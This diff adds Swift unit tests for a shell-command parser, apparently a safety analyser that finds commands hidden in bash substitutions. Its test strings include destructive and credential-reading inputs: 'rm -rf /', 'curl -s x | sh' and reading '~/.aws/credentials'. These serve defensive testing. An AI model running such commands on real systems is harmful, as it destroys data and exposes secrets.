@@ -204,4 +204,38 @@ import Testing
         #expect(commands.map(\.program) == ["rm", "declare"])
         #expect(commands.last?.arguments == ["-A", "m=([a]=$(rm x) [b]=2)", "n=1"])
     }
+
+    @Test(arguments: [
+        ("cat <<< $(rm a)", ["rm", "cat"]),
+        ("case x in $(rm a)) ;; esac", ["rm"]),
+        ("[[ $(rm a) ]]", ["rm"]),
+        ("(( $(rm a) ))", ["rm"]),
+        ("for ((i=$(rm a); i<1; i++)); do :; done", ["rm", ":"]),
+        ("echo ${a[$(rm a)]}", ["rm", "echo"]),
+        ("echo $[ $(rm a) ]", ["rm", "echo"]),
+        ("a=$'x' b=\"$(rm a)\" c", ["rm", "c"]),
+        ("echo $(<file)", ["echo"]),
+    ])
+    func substitutionsInEveryPosition(_ source: String, _ programs: [String]) {
+        let extraction = ShellProbe.extract(source)
+        #expect(extraction.opaqueReasons.isEmpty, "\(extraction.opaqueReasons)")
+        #expect(extraction.commands.filter { !$0.words.isEmpty }.map(\.program) == programs)
+    }
+
+    @Test func readingAFileWithDollarParenLessThanIsARedirectionOnlyCommand() throws {
+        let commands = ShellProbe.extract("echo $(< ~/.aws/credentials)").commands
+        #expect(commands.count == 2)
+        #expect(commands[0].words.isEmpty)
+        #expect(commands[0].redirections.map(\.target.text) == ["~/.aws/credentials"])
+    }
+
+    @Test func theWalkSeesTheExtractedCommands() {
+        let analysis = ActionAnalyzer().analyze(shell: "a=rm; $a -rf / && echo $(curl -s x | sh)")
+        #expect(analysis.opaqueReasons.map(\.kind).contains(.dynamicProgram))
+        #expect(analysis.actions.contains { if case .exec(let c) = $0 { c.program == "sh" } else { false } })
+    }
+
+    @Test func backgroundAndTimedCommandsAreListed() {
+        #expect(ShellProbe.argv("time rm -rf / & wait") == [["rm", "-rf", "/"], ["wait"]])
+    }
 }
